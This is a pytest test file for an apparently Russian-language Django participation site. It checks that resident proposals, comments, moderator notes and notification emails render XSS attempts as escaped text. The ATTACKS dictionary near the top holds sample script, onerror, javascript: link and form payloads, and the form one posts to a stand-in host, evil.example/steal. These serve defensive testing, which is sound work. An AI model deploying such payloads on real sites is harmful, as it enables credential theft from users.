"""Whatever a resident writes comes out as inert text everywhere."""

import pytest
from django.core import mail
from django.template import Context, Template

from crowdsourcing.models import CommentState, ProposalState
from crowdsourcing.notifications import render_notification
from crowdsourcing.services import moderation
from crowdsourcing.text import render_resident_text

from .factories import (
    CommentFactory,
    ModerationReasonFactory,
    ProposalFactory,
    UserFactory,
)
from .participation import live_markup, make_moderator

ATTACKS = {
    "script": "<script>alert('x')</script>",
    "img": '<img src="x" onerror="alert(1)">',
    "js_link": '<a href="javascript:alert(1)">жми</a> javascript:alert(2)',
    "form": '<form action="https://evil.example/steal"><input name="p"></form>',
}


def assert_inert(html: str):
    assert live_markup(html) == []


@pytest.mark.parametrize("name", ATTACKS)
def test_filter_escapes_markup(name):
    """Each attack comes back escaped, its text still readable."""
    html = render_resident_text(ATTACKS[name])
    assert_inert(html)
    assert "&lt;" in html


def test_filter_keeps_line_breaks_and_http_links():
    """Paragraphs, line breaks and http(s) links survive as safe HTML."""
    html = render_resident_text("Первая строка\nвторая\n\nhttps://mos.ru/page?a=1&b=2")
    assert html == (
        "<p>Первая строка<br>вторая</p>\n\n<p>"
        '<a href="https://mos.ru/page?a=1&amp;b=2" '
        'rel="nofollow noopener noreferrer ugc">https://mos.ru/page?a=1&amp;b=2</a></p>'
    )


def test_template_filter_is_the_same_function():
    rendered = Template("{% load crowd_text %}{{ v|resident_text }}").render(
        Context({"v": ATTACKS["img"]})
    )
    assert rendered == render_resident_text(ATTACKS["img"])


@pytest.fixture
def hostile_proposal(db):
    body = "Текст предложения достаточно длинный для формы. " + " ".join(
        ATTACKS.values()
    )
    proposal = ProposalFactory(title=ATTACKS["script"][:150], body=body)
    CommentFactory(proposal=proposal, body=ATTACKS["form"] + ATTACKS["js_link"])
    return proposal


@pytest.mark.django_db
def test_proposal_page_and_list_are_inert(client, hostile_proposal):
    """The proposal page and the project list show the attacks as text."""
    page = client.get(hostile_proposal.get_absolute_url()).content.decode()
    assert "&lt;script&gt;" in page
    assert "&lt;form action=" in page
    assert "&lt;img" in page
    assert live_markup(page) == []
    listing = client.get(
        f"/projects/{hostile_proposal.project.slug}/proposals/"
    ).content.decode()
    assert "&lt;script&gt;" in listing
    assert live_markup(listing) == []


@pytest.mark.django_db
def test_admin_queue_and_review_are_inert(client, hostile_proposal):
    """Moderators read the attacks as text in the queue and review page."""
    hostile_proposal.state = ProposalState.SUBMITTED
    hostile_proposal.save()
    moderator = make_moderator(hostile_proposal.project)
    client.force_login(moderator)
    for url in (
        "/admin/moderation/",
        f"/admin/moderation/proposals/{hostile_proposal.pk}/",
    ):
        html = client.get(url).content.decode()
        assert "&lt;script&gt;" in html, url
        assert live_markup(html) == [], url
    comment = hostile_proposal.comments.get()
    comment.state = CommentState.PENDING_REVIEW
    comment.save()
    html = client.get("/admin/moderation/comments/").content.decode()
    assert "&lt;form action=" in html
    assert live_markup(html) == []


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_decision_email_is_inert(hostile_proposal):
    """The HTML part escapes the moderator's note; the text part is plain."""
    hostile_proposal.state = ProposalState.SUBMITTED
    hostile_proposal.save()
    moderator = make_moderator(hostile_proposal.project)
    reason = ModerationReasonFactory(explanation=ATTACKS["img"])
    moderation.reject_proposal(
        moderator, hostile_proposal, reason, note=ATTACKS["form"]
    )
    (message,) = mail.outbox
    html = message.alternatives[0][0]
    assert_inert(html)
    assert "&lt;form action=" in html
    assert "&lt;img" in html
    assert ATTACKS["form"] in message.body  # plain text: shown as written


@pytest.mark.django_db
def test_render_notification_escapes_comment_body():
    user = UserFactory()
    subject, text, html = render_notification(
        user,
        "comment_hidden",
        {
            "comment_id": 1,
            "comment_body": ATTACKS["script"],
            "proposal_title": ATTACKS["img"],
            "proposal_url": "/proposals/1/",
            "reason_title": "Спам",
            "reason_explanation": "",
            "note": "",
        },
    )
    assert subject == "Ваш комментарий скрыт модератором"
    assert ATTACKS["script"] in text
    assert_inert(html)
    assert "&lt;script&gt;" in html
